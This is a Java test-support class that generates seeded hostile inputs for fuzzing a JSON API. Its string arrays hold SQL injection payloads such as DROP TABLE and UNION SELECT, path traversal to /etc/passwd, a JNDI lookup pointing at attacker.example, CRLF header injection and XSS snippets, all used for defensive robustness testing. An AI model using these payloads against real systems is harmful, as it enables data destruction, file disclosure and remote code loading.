package dev.mainstay.test;

import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Random;

/**
 * A seeded, reproducible generator of hostile input for tests: string values, numbers and broken
 * variants of a valid JSON body, each drawn at random from a {@link Kind} and described well enough
 * that a failing assertion says exactly what was sent.
 *
 * <pre>{@code
 * HostileInput hostile = HostileInput.fromSystemProperty(20261129L);
 * for (int i = 0; i < 200; i++) {
 *     HostileInput.Variant title = hostile.string();
 *     String body = "{\"article\":{\"title\":" + title.json() + ",\"body\":\"b\",\"description\":\"d\"}}";
 *     HttpResponse<String> response = client.post("/api/articles", body, "Authorization", token);
 *     assertTrue(response.statusCode() < 500, title + " -> " + response.body());
 * }
 * HostileInput.Variant broken = hostile.body("{\"user\":{\"email\":\"a@b.c\",\"password\":\"pw\"}}");
 * // send broken.bytes() as the request body; expect a 4xx
 * }</pre>
 *
 * <p><b>Reproducing a failure.</b> Every {@link Variant#toString()} ends with the generator's seed and
 * the variant's draw number, e.g. {@code (seed 20261129, draw 17)}. The same seed always yields the same
 * sequence of variants from the same sequence of calls (the generator uses {@link Random}, whose
 * algorithm is fixed by its specification), so re-running the test with that seed sends the same bytes
 * again. {@link #fromSystemProperty(long)} reads the seed from {@code -Dmainstay.hostile.seed=N}, which
 * lets a build try fresh seeds and a developer replay one: {@code mvn test -Dmainstay.hostile.seed=N}.
 *
 * <p>Plain Java with no test-framework dependency; not thread-safe (use one generator per thread).
 */
public final class HostileInput {
    /** The system property {@link #fromSystemProperty(long)} reads the seed from. */
    public static final String SEED_PROPERTY = "mainstay.hostile.seed";

    /** Which of the three families a {@link Kind} belongs to. */
    public enum Group {
        /** A string value, for a JSON string field, a query parameter, a path segment or a header. */
        STRING,
        /** The text of a number, for a JSON number field or a numeric query parameter. */
        NUMBER,
        /** A whole request body derived from a valid JSON object. */
        BODY
    }

    /** What a variant attacks; the constant's comment says what is sent. */
    public enum Kind {
        /** Quotes, comments and SQL keywords: {@code ' OR '1'='1}, {@code '; DROP TABLE x; --}, {@code %_\}. */
        SQL_METACHARACTERS(Group.STRING),
        /** Emoji and ZWJ sequences, RTL override, NUL, lone surrogates, BOM, combining marks, U+2028. */
        UNICODE_EDGE(Group.STRING),
        /** One character or emoji repeated 256, 1,025, 10,001 or 70,000 times. */
        VERY_LONG(Group.STRING),
        /** {@code ../../etc/passwd} and its encoded and Windows forms. */
        PATH_TRAVERSAL(Group.STRING),
        /** Format strings and template, log and header injection: {@code %s%n}, {@code ${jndi:...}}, CRLF. */
        FORMAT_STRING(Group.STRING),
        /** Empty and whitespace-only strings. */
        BLANK(Group.STRING),
        /** Integers just past the 32- and 64-bit limits, and far past them. */
        OVERFLOW(Group.NUMBER),
        /** Negative numbers, including the minimum 32- and 64-bit values and {@code -0}. */
        NEGATIVE(Group.NUMBER),
        /** Large numbers that still fit: the maximum 32- and 64-bit values, a billion. */
        HUGE(Group.NUMBER),
        /** Numbers with a fraction where an integer is expected. */
        FRACTIONAL(Group.NUMBER),
        /** Numbers in exponent form, including ones no {@code double} can hold. */
        EXPONENT(Group.NUMBER),
        /** Text that is almost a number: {@code NaN}, {@code 0x10}, {@code +1}, {@code 01}, Arabic-Indic digits. */
        NOT_A_NUMBER(Group.NUMBER),
        /** The JSON text is broken: truncated, a trailing comma, single quotes, a comment, trailing text. */
        MALFORMED_JSON(Group.BODY),
        /** Valid JSON with one value (possibly the whole document) replaced by one of another JSON type. */
        WRONG_TYPE(Group.BODY),
        /** Valid JSON with one field removed. */
        MISSING_FIELD(Group.BODY),
        /** Valid JSON with one unexpected field added. */
        EXTRA_FIELD(Group.BODY),
        /** Valid JSON with one value replaced by arrays or objects nested 1,001 or 10,000 deep. */
        DEEP_NESTING(Group.BODY),
        /** The JSON text with an invalid UTF-8 byte sequence inside its first string. */
        INVALID_UTF8(Group.BODY);

        private final Group group;

        Kind(Group group) {
            this.group = group;
        }

        /**
         * Returns the family of this kind: whether it replaces a string value, a number or a whole body.
         *
         * @return the group
         */
        public Group group() {
            return group;
        }

        /**
         * Returns every kind of {@code group}, in declaration order; for tests that try each kind once.
         *
         * @param group the family
         * @return the kinds of that family
         */
        public static List<Kind> of(Group group) {
            return Arrays.stream(values()).filter(kind -> kind.group == group).toList();
        }
    }

    private static final String[] SQL = {
        "' OR '1'='1", "' OR 1=1 --", "'; DROP TABLE users; --", "\" OR \"\"=\"", "') UNION SELECT NULL, NULL --",
        "1; SELECT pg_sleep(5)", "%' AND 1=1 --", "\\'", "%", "_", "%_\\", "' || (SELECT version()) || '",
        "admin'/*", "*/ --", "'); INSERT INTO users VALUES ('x'); --", ";"
    };
    private static final String[] UNICODE = {
        "\uD83D\uDE00", "\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67", "\u202E", "\u200F", "\u0000",
        "\uD800", "\uDC00", "\uFEFF", "e\u0301\u0301\u0301", "\u200B", "\uFFFF", "\u0085", "\u2028", "\u0130",
        "\u0131", "\u00DF", "\uD835\uDD4F", "\uFF21", "\u0627\u0644\u0639\u0631\u0628\u064A\u0629", "\u001B[31m"
    };
    private static final String[] TRAVERSAL = {
        "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/etc/passwd", "..\\..\\windows\\win.ini",
        "/etc/passwd", "....//....//etc/passwd", "..;/admin", "%252e%252e%252f", "..%00/", "file:///etc/passwd",
        "..", "."
    };
    private static final String[] FORMAT = {
        "%s%s%s%s%n", "%x%x%x", "{0}", "${jndi:ldap://attacker.example/a}", "#{7*7}", "{{7*7}}", "${7*7}",
        "a\r\nSet-Cookie: injected=1", "line\nINFO forged log line", "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>", "javascript:alert(1)"
    };
    private static final String[] LONG_UNITS = {"a", "\u00E9", "\uD83D\uDE00", "'", "%"};
    private static final int[] LONG_REPEATS = {256, 1_025, 10_001, 70_000};
    private static final String[] BLANKS = {"", " ", "\t", "\n", "   \u00A0", "\u3000"};
    private static final String[] WORDS = {"title", "jake", "dragon", "a", "x y", "caf\u00E9", "42"};

    private final long seed;
    private final Random random;
    private int draws;

    private HostileInput(long seed) {
        this.seed = seed;
        this.random = new Random(seed);
    }

    /**
     * Returns a generator whose variants are fully determined by {@code seed}.
     *
     * @param seed the seed; the same seed draws the same variants in the same order
     * @return a new generator; not thread-safe
     */
    public static HostileInput seeded(long seed) {
        return new HostileInput(seed);
    }

    /**
     * Returns a generator seeded from the system property {@value #SEED_PROPERTY} when it is set, else from
     * {@code defaultSeed}; a test that uses it keeps a fixed seed by default and can replay any other.
     *
     * @param defaultSeed the seed when the property is not set
     * @return a new generator; not thread-safe
     * @throws NumberFormatException if the property is set but is not a {@code long}
     */
    public static HostileInput fromSystemProperty(long defaultSeed) {
        String value = System.getProperty(SEED_PROPERTY);
        return seeded(value == null || value.isBlank() ? defaultSeed : Long.parseLong(value.trim()));
    }

    /**
     * Returns the seed this generator was created with; put it in every failure message.
     *
     * @return the seed, to replay with {@code -D}{@value #SEED_PROPERTY}
     */
    public long seed() {
        return seed;
    }

    /**
     * Returns a hostile string value of a random {@link Group#STRING} kind.
     *
     * @return the next variant
     */
    public Variant string() {
        return string(pick(Kind.of(Group.STRING)));
    }

    /**
     * Returns a hostile string value of {@code kind}.
     *
     * @param kind a {@link Group#STRING} kind
     * @return the next variant
     * @throws IllegalArgumentException if {@code kind} is not a {@link Group#STRING} kind
     */
    public Variant string(Kind kind) {
        requireGroup(kind, Group.STRING);
        String text = switch (kind) {
            case SQL_METACHARACTERS -> embed(pick(SQL));
            case UNICODE_EDGE -> unicode();
            case VERY_LONG -> pick(LONG_UNITS).repeat(LONG_REPEATS[random.nextInt(LONG_REPEATS.length)]);
            case PATH_TRAVERSAL -> pick(TRAVERSAL);
            case FORMAT_STRING -> embed(pick(FORMAT));
            case BLANK -> pick(BLANKS);
            default -> throw new AssertionError(kind);
        };
        return value(kind, text);
    }

    /**
     * Returns the text of a hostile number of a random {@link Group#NUMBER} kind.
     *
     * @return the next variant
     */
    public Variant number() {
        return number(pick(Kind.of(Group.NUMBER)));
    }

    /**
     * Returns the text of a hostile number of {@code kind}; except for {@link Kind#NOT_A_NUMBER} it is a
     * valid JSON number, so it can be put into a JSON document unquoted.
     *
     * @param kind a {@link Group#NUMBER} kind
     * @return the next variant
     * @throws IllegalArgumentException if {@code kind} is not a {@link Group#NUMBER} kind
     */
    public Variant number(Kind kind) {
        requireGroup(kind, Group.NUMBER);
        String text = switch (kind) {
            case OVERFLOW -> overflow();
            case NEGATIVE -> pick(new String[] {
                "-1", "-0", "-2147483648", "-9223372036854775808", Long.toString(-1 - random.nextInt(1_000_000))});
            case HUGE -> pick(new String[] {"2147483647", "9223372036854775807", "1000000000", "4294967295"});
            case FRACTIONAL -> pick(new String[] {"1.5", "0.0001", "-0.5", "1.0", random.nextInt(100) + ".25"});
            case EXPONENT -> pick(new String[] {"1e3", "1E+308", "1e-400", "-1e400", "1e999999999", "2e2147483648"});
            case NOT_A_NUMBER -> pick(new String[] {
                "NaN", "Infinity", "-Infinity", "0x10", "+1", "01", "1_000", " 1", "1 ", "\u0661\u0662", "1,5", "--1"});
            default -> throw new AssertionError(kind);
        };
        return value(kind, text);
    }

    /**
     * Returns a hostile body derived from {@code validJsonObject} by a mutation of a random
     * {@link Group#BODY} kind.
     *
     * @param validJsonObject a valid JSON object with at least one field, e.g. a request the API accepts
     * @return the next variant; send its {@link Variant#bytes()}
     * @throws IllegalArgumentException if {@code validJsonObject} is not such an object
     */
    public Variant body(String validJsonObject) {
        return body(validJsonObject, pick(Kind.of(Group.BODY)));
    }

    /**
     * Returns a hostile body derived from {@code validJsonObject} by a mutation of {@code kind}; for
     * {@link Kind#DEEP_NESTING} the depth is 1,001 (one past Jackson's default limit) or 10,000.
     *
     * @param validJsonObject a valid JSON object with at least one field, e.g. a request the API accepts
     * @param kind a {@link Group#BODY} kind
     * @return the next variant; send its {@link Variant#bytes()}
     * @throws IllegalArgumentException if {@code kind} is not a {@link Group#BODY} kind, or
     *     {@code validJsonObject} is not a valid JSON object with at least one field
     */
    public Variant body(String validJsonObject, Kind kind) {
        requireGroup(kind, Group.BODY);
        HostileInputBodies.Mutation mutation = new HostileInputBodies(random).mutate(validJsonObject, kind);
        return new Variant(kind, mutation.detail(), mutation.bytes(), this, ++draws);
    }

    /**
     * Returns {@code validJsonObject} with one value replaced by arrays or objects nested {@code depth} deep.
     *
     * @param validJsonObject a valid JSON object with at least one field
     * @param depth how deep to nest, at least 1; e.g. one past the server's {@code http.json.max-depth}
     * @return the next variant, of kind {@link Kind#DEEP_NESTING}
     * @throws IllegalArgumentException if {@code depth < 1}, or {@code validJsonObject} is not a valid JSON
     *     object with at least one field
     */
    public Variant deeplyNested(String validJsonObject, int depth) {
        HostileInputBodies.Mutation mutation = new HostileInputBodies(random).nest(validJsonObject, depth);
        return new Variant(Kind.DEEP_NESTING, mutation.detail(), mutation.bytes(), this, ++draws);
    }

    private Variant value(Kind kind, String text) {
        return new Variant(kind, text, this, ++draws);
    }

    private String embed(String payload) {
        return switch (random.nextInt(3)) {
            case 0 -> payload;
            case 1 -> pick(WORDS) + payload;
            default -> pick(WORDS) + payload + pick(WORDS);
        };
    }

    private String unicode() {
        StringBuilder text = new StringBuilder(pick(WORDS));
        int edges = 1 + random.nextInt(3);
        for (int i = 0; i < edges; i++) {
            text.insert(random.nextInt(text.length() + 1), pick(UNICODE));
        }
        return text.toString();
    }

    private String overflow() {
        BigInteger limit = BigInteger.valueOf(random.nextBoolean() ? Integer.MAX_VALUE : Long.MAX_VALUE);
        BigInteger past = limit.add(BigInteger.valueOf(1 + random.nextInt(1_000)));
        return switch (random.nextInt(3)) {
            case 0 -> past.toString();
            case 1 -> past.add(BigInteger.ONE).negate().toString();
            default -> past.multiply(BigInteger.TEN.pow(20 + random.nextInt(300))).toString();
        };
    }

    private <T> T pick(T[] choices) {
        return choices[random.nextInt(choices.length)];
    }

    private <T> T pick(List<T> choices) {
        return choices.get(random.nextInt(choices.size()));
    }

    private static void requireGroup(Kind kind, Group group) {
        if (kind.group() != group) {
            throw new IllegalArgumentException(kind + " is a " + kind.group() + " kind, not a " + group + " kind");
        }
    }

    /**
     * One hostile input: its kind, what it is, the bytes to send, and where it came from.
     *
     * <p>For a {@link Group#STRING} or {@link Group#NUMBER} variant, {@link #text()} is the value; put it in
     * a JSON document with {@link #json()} (which keeps NUL and lone surrogates intact) and in a URL with
     * {@code URLEncoder}. For a {@link Group#BODY} variant, send {@link #bytes()}: they may not be UTF-8.
     */
    public static final class Variant {
        private static final int SHOWN_CHARS = 200;

        private final Kind kind;
        private final String text;
        private final String detail;
        private final byte[] bytes;
        private final long seed;
        private final int draw;

        private Variant(Kind kind, String text, HostileInput source, int draw) {
            this(kind, text, null, text.getBytes(StandardCharsets.UTF_8), source.seed, draw);
        }

        private Variant(Kind kind, String detail, byte[] bytes, HostileInput source, int draw) {
            this(kind, new String(bytes, StandardCharsets.UTF_8), detail, bytes, source.seed, draw);
        }

        private Variant(Kind kind, String text, String detail, byte[] bytes, long seed, int draw) {
            this.kind = kind;
            this.text = text;
            this.detail = detail;
            this.bytes = bytes;
            this.seed = seed;
            this.draw = draw;
        }

        /**
         * Returns what this variant attacks.
         *
         * @return the kind it was drawn as
         */
        public Kind kind() {
            return kind;
        }

        /**
         * Returns the value of a string or number variant; for a body, the body decoded as UTF-8 (an
         * invalid sequence shows as U+FFFD, so send {@link #bytes()}, not this).
         *
         * @return the text
         */
        public String text() {
            return text;
        }

        /**
         * Returns {@link #text()} as a JSON string literal, ASCII only: everything else is a {@code \}{@code u} escape.
         *
         * @return the quoted literal, to put into a JSON document as it is
         */
        public String json() {
            return quote(text, Integer.MAX_VALUE);
        }

        /**
         * Returns the bytes to send: for a body exactly the mutated document; for a value its UTF-8
         * encoding (where a lone surrogate becomes {@code ?}; use {@link #json()} to send one in JSON).
         *
         * @return a copy of the bytes
         */
        public byte[] bytes() {
            return bytes.clone();
        }

        /**
         * Returns the seed of the generator that drew this variant.
         *
         * @return the seed
         */
        public long seed() {
            return seed;
        }

        /**
         * Returns this variant's position (from 1) in its generator's sequence of draws.
         *
         * @return the draw number
         */
        public int draw() {
            return draw;
        }

        /**
         * Describes the variant for a failure message: kind, what was changed (for a body), the value as an
         * escaped literal (cut after about 200 characters, with the full length), seed and draw number.
         */
        @Override
        public String toString() {
            String what = detail == null ? "" : " " + detail + ":";
            return kind + what + " " + quote(text, SHOWN_CHARS) + " (" + text.length() + " chars, seed " + seed
                    + ", draw " + draw + ")";
        }

        /** Returns {@code text} as an ASCII JSON string literal, cut with {@code ...} once it is {@code limit} long. */
        private static String quote(String text, int limit) {
            StringBuilder out = new StringBuilder("\"");
            int shown = 0;
            for (; shown < text.length() && out.length() < limit; shown++) {
                char c = text.charAt(shown);
                if (c == '"' || c == '\\') {
                    out.append('\\').append(c);
                } else if (c >= 0x20 && c < 0x7F) {
                    out.append(c);
                } else {
                    out.append(String.format("\\u%04x", (int) c));
                }
            }
            out.append('"');
            return shown < text.length() ? out.append("...").toString() : out.toString();
        }
    }
}
